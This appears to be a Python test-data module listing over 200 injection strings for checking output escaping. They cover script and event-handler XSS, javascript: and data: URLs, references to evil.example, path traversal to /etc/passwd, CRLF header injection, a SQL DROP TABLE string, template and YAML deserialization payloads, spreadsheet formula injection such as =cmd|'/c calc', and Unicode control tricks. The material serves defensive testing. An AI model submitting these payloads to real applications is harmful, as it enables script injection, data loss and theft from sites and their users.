"""Texts that would do harm where they are not told apart from markup, code, addresses or marks of ours.

The mark § stands for the number that tells where a text was put; no two texts are the same without it."""

SCRIPT = [
    "<script>alert(§)</script>", "</title><script>alert(§)</script>", "</h1></main><script>alert(§)</script>",
    "\"><script>alert(§)</script>", "'><script>alert(§)</script>", "<script src=//evil.example/§></script>",
    "<script>alert(§)//", "<ScRiPt>alert(§)</sCrIpT>", "<script/x>alert(§)</script>", "<script\n>alert(§)</script>",
    "</script><script>alert(§)</script>", "</textarea><script>alert(§)</script>", "]]><script>alert(§)</script>",
    "</style><script>alert(§)</script>", "</noscript><script>alert(§)</script>", "<![CDATA[<script>alert(§)]]>",
    "--><script>alert(§)</script><!--", "<!--<img src='--><img src=x onerror=alert(§)>'>", "<scr<script>ipt>alert(§)",
    "<scr\0ipt>alert(§)</scr\0ipt>", "\ufeff<script>alert(§)</script>", "<ſcript>alert(§)</ſcript>",
    "＜script＞alert(§)＜/script＞", "+ADw-script+AD4-alert(§)+ADw-/script+AD4-", "&lt;script&gt;alert(§)",
    "&#60;script&#62;alert(§)", "&#x3c;script>alert(§)", "&lt;script>alert(§)", "&amp;lt;script&amp;gt;§",
    "%3Cscript%3Ealert(§)%3C/script%3E", "\\u003cscript\\u003ealert(§)", "\\x3cscript\\x3ealert(§)", "<?php alert(§) ?>",
    "<?xml-stylesheet href='//evil.example/§'?>", "<template><script>alert(§)</script>", "';alert(§);//", "\";alert(§);//",
    "`;alert(§);//", "\\';alert(§);//", "*/alert(§)/*", "${alert(§)}", "#{alert(§)}", "<%= alert(§) %>",
    "<script type=module>alert(§)</script>", "<script>/*§", "</script>§", "<noscript>§",
]
ATTRIBUTE = [
    "\" onmouseover=\"alert(§)", "' autofocus onfocus='alert(§)", "\" autofocus onfocus=alert(§) x=\"", "x onload=alert(§)",
    "<img src=x onerror=alert(§)>", "'><img src=x onerror=alert(§)>", "<img src='x'onerror=alert(§)>", "<img/src/onerror=alert(§)>",
    "<img src=x onerror\n=alert(§)>", "<image src=x onerror=alert(§)>", "<input autofocus onfocus=alert(§)>", "<body onload=alert(§)>",
    "<details open ontoggle=alert(§)>", "<video><source onerror=alert(§)>", "<audio src onerror=alert(§)>", "<select autofocus onfocus=alert(§)>",
    "<textarea autofocus onfocus=alert(§)>", "<marquee onstart=alert(§)>", "<p style=animation-name:x onanimationstart=alert(§)>",
    "<a id=x tabindex=1 onfocus=alert(§)>", "<div contenteditable onblur=alert(§)>", "\" id=\"Main§", "\" class=\"site§", "\" hidden x=\"§",
    "\" lang=\"x§", "\" href=\"//evil.example/§", "\" aria-hidden=\"true§", "\" style=\"display:none§", "'\"><i>§", "\"§", "'§", "`§",
    "\"'§'\"", "&quot;§", "&#34;§", "&apos; onload=alert(§)", "=§\"", "/>§", "\">§<\"",
]
URL = [
    "javascript:alert(§)", "JaVaScRiPt:alert(§)", "java\tscript:alert(§)", "java\nscript:alert(§)", " javascript:alert(§)", "\u0001javascript:alert(§)",
    "javascript&colon;alert(§)", "&#106;avascript:alert(§)", "javascript:/*§*/alert(1)", "vbscript:msgbox(§)", "data:text/html,<script>alert(§)</script>",
    "data:text/html;base64,PHNjcmlwdD4§", "data:image/svg+xml,<svg onload=alert(§)>", "//evil.example/§", "\\\\evil.example\\§", "/\\evil.example/§",
    "https://evil.example/§", "https://a:b@[::1]/§", "file:///etc/passwd#§", "../../etc/passwd§", "..\\..\\§", "%2e%2e/§", "%00§", "%0d%0aX:§",
    "?q=§&x=<b>", "#§", "mailto:?bcc=§", "tel:§;phone-context=evil", "<base href=//evil.example/§/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/§'>", "<link rel=stylesheet href=//evil.example/§.css>", "<a href=javascript:alert(§)>点</a>",
    "<iframe src=javascript:alert(§)>", "<iframe srcdoc='<script>alert(§)</script>'>", "<object data=javascript:alert(§)>", "<embed src=javascript:alert(§)>",
    "<form action=javascript:alert(§)><button>", "<frameset><frame src=javascript:alert(§)>", "<img src=//evil.example/§>", "<area href=javascript:alert(§)>",
]
SVG = [
    "<svg onload=alert(§)>", "<svg><script>alert(§)</script></svg>", "<svg><animate onbegin=alert(§) attributeName=x>", "</svg><script>alert(§)</script>",
    "</text></svg><img src=x onerror=alert(§)>", "<svg><use href='data:image/svg+xml,§'/>", "<svg><a href=javascript:alert(§)><text>x", "</desc><script>alert(§)</script>",
    "<svg><foreignObject><p onclick=alert(§)>", "<svg><set onend=alert(§)>", "<svg><style>@import'//evil.example/§'", "<math href=javascript:alert(§)>x</math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(§)>", "<svg><image href=//evil.example/§>", "<svg><![CDATA[><img src=x onerror=alert(§)>]]>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(§)>'>", "&xxe;§", "<!DOCTYPE x [<!ENTITY e '§'>]>", "<text x=0>§</text>", "</title>§",
]
CSS = [
    "<style>@import '//evil.example/§'</style>", "<style>*{display:none}</style>§", "expression(alert(§))", "url(//evil.example/§)", "}*{display:none}/*§", "</style>§",
    "x:url(javascript:alert(§))", "<p style='position:fixed;inset:0'>§", "<p style=background:url(//evil.example/§)>", "-moz-binding:url(//evil.example/§)", "@charset \"§",
    "\\65xpression(§)", "<style>§", "<style media=x>:root{--a:§", ";color:red§", "{§}", "<link rel=preload as=style href=//evil.example/§>",
]
MARKUP = [
    "<b>§", "<i>§</i>", "<u>§", "<h1>§</h1>", "§</p></div></section></main>", "§</body></html>", "<plaintext>§", "<textarea>§", "<select><option>§", "<xmp>§",
    "<!--§", "-->§", "<!§", "<§>", "</§>", "<>§", "< script>§", "<noscript><p title='</noscript><img src=x onerror=alert(§)>'>", "&§;", "&#§;", "&amp§", "&lt;b&gt;§",
    "{{constructor.constructor('alert(§)')()}}", "{{#sections}}§{{/sections}}", "{{>layout}}§", "{{t.home}}§", "{{{t}}}§", "{{=<% %>=}}§", "{{§", "}}§", "__proto__§",
    "%s%n§", "\\§\\", "$(§)", "'; DROP TABLE cases;--§", "---\n§", "- §: [", "!!python/object §", "&anchor *alias §", "%YAML §", "§: {", "# §", "* * *\n§", "> §", "1. §",
]
SHEET = ["=HYPERLINK(\"//evil.example/§\")", "=cmd|'/c calc'!A§", "+§", "-§+1", "@SUM(A§)", "\t=1+§", "\r=1+§", "＝1+§", "＋§", "－§", "＠§", "=§", "§,\"=1+1\"", "§\n=1+1",
         "§\r\nSet-Cookie: a=b", "§\nBEGIN:VEVENT", "\";=1+§", "|§|", ",§", ";§"]
UNICODE = [
    "\u202egnirts lortnoc §", "\u2066isolated\u2069\u202a§", "a\u200bb\u200c\u200d§", "\u00ad\u034f§", "e\u0301\u0302\u0303\u0304§", "👩‍👩‍👧‍👦§", "𠮷𡈽§", "\u0001§\u0002", "\u0003§",
    "\u001b[31m§", "§\u2028\u2029", "\ufffe§", "\uffff§", "\ufdd0§", "\ue000§", "\uf8ff§", "\U0010ffff§", "\U000e0041§", "\u0085§", "\u00a0§", "\u3000§", "\u007f§", "\u009b§", "\u0008§",
    "\u000c§", "\ufff9a\ufffab\ufffb§", "İıſK§", "ﷺ§", "￥§", "\u115f§", "\u2800§", "𝐬𝐜𝐫𝐢𝐩𝐭§", "ʼ§＂", "‹script›§", "\u2215§", "字" * 100 + "§", "W" * 100 + "§", "\u0300" * 60 + "§",
    "ا§ب", "\u061c§", "🇨🇳§", "㊙️§",
]

STRINGS = SCRIPT + ATTRIBUTE + URL + SVG + CSS + MARKUP + SHEET + UNICODE
assert len(set(STRINGS)) == len(STRINGS) >= 200
